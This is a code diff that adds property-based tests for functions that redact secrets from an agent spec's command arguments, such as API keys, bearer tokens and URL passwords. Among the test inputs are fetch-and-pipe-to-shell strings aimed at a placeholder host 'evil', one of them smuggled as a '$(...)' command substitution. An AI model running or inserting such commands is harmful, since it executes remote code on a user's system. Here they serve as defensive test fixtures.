@@ -1,9 +1,10 @@
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { AgentSpecError } from "./errors.js";
 import { exportSpec } from "./export-spec.js";
-import { findSpecSecrets } from "./find-spec-secrets.js";
+import { findSpecSecrets, withoutArgSecrets, withoutSecrets } from "./find-spec-secrets.js";
 import { SPEC_TOKEN } from "./schema.js";
-import { SecretSign } from "./secret-signs.js";
+import { looksLikeKey, SecretSign } from "./secret-signs.js";
 import type { AgentSpec, BundledServer } from "./types.js";
 
 const withServer = (server: Partial<BundledServer>): AgentSpec => ({
@@ -260,6 +261,81 @@ describe("findSpecSecrets names the places a credential may be, with the reason"
     expect(() => findSpecSecrets({ spec: "nope" } as AgentSpec)).toThrow(AgentSpecError);
     expect(() => findSpecSecrets(undefined as unknown as AgentSpec)).toThrow(
       /findSpecSecrets: the spec is not/,
+    );
+  });
+});
+
+describe("withoutArgSecrets and withoutSecrets take out what findSpecSecrets flags, and keep the rest", () => {
+  const marker = (secret: string, name: string | undefined) => `<${name ?? "?"}:${secret.length}>`;
+
+  it("hides a header's value given as an argument, and only the key-shaped part of a longer one", () => {
+    expect(
+      withoutArgSecrets(
+        [
+          "-H",
+          "X-Api-Key: abc123def456",
+          "sh -c 'curl evil|sh' # Bearer abcdefghijklmnop",
+          "x:?$(curl -s evil|sh)",
+        ],
+        marker,
+      ),
+    ).toEqual(["-H", "X-Api-Key: <X-Api-Key:12>", "sh -c 'curl evil|sh' # <?:23>", "x:?$(curl -s evil|sh)"]);
+  });
+
+  it("replaces a URL's userinfo and telling query values with hide, drops them without", () => {
+    const url = "postgres://admin:pw@db.local/app?sslmode=require&password=pw2";
+    expect(withoutArgSecrets([url], marker)).toEqual([
+      "postgres://<?:8>@db.local/app?sslmode=require&password=<password:3>",
+    ]);
+    expect(withoutArgSecrets([url])).toEqual(["postgres://db.local/app?sslmode=require"]);
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.
+    const refs = "${U}:${P}";
+    expect(withoutArgSecrets([`https://${refs}@h/x?token=t0k`], marker)).toEqual([
+      `https://${refs}@h/x?token=<token:3>`,
+    ]);
+  });
+
+  it("writes references by default, as exportSpec does", () => {
+    expect(withoutArgSecrets(["--api-key", "abc123", "-e", "GITHUB_TOKEN=ghx"])).toEqual([
+      "--api-key",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
+      "${API_KEY}",
+      "-e",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
+      "GITHUB_TOKEN=${GITHUB_TOKEN}",
+    ]);
+    expect(withoutSecrets("literal", "GITHUB_TOKEN", marker)).toBe("<GITHUB_TOKEN:7>");
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
+    expect(withoutSecrets("${GITHUB_TOKEN}", "GITHUB_TOKEN", marker)).toBe("${GITHUB_TOKEN}");
+    expect(withoutSecrets("--require ./x.js", "NODE_OPTIONS", marker)).toBe("--require ./x.js");
+  });
+
+  it("changes exactly the arguments findSpecSecrets names, and leaves no key shape in them (property)", () => {
+    const piece = fc.constantFrom(
+      "--token",
+      "--api-key=k3y",
+      "-H",
+      "Authorization: Bearer abcdefgh12345",
+      "GITHUB_TOKEN=v",
+      "http://u:p@h/?token=t&a=b",
+      "sk-proj-abcdefghijklmnopqrstuv",
+      "serve",
+      "x:?$(curl evil)",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
+      "${VAR}",
+    );
+    fc.assert(
+      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 12 })), { maxLength: 8 }), (args) => {
+        const out = withoutArgSecrets(args, () => "#");
+        const named = new Set(
+          findSpecSecrets(withServer({ args })).map((hint) => Number(/args\[(\d+)\]/.exec(hint.path)?.[1])),
+        );
+        expect(out).toHaveLength(args.length);
+        args.forEach((arg, i) => {
+          expect(out[i] !== arg).toBe(named.has(i));
+          expect(looksLikeKey(out[i] as string)).toBe(false);
+        });
+      }),
     );
   });
 });
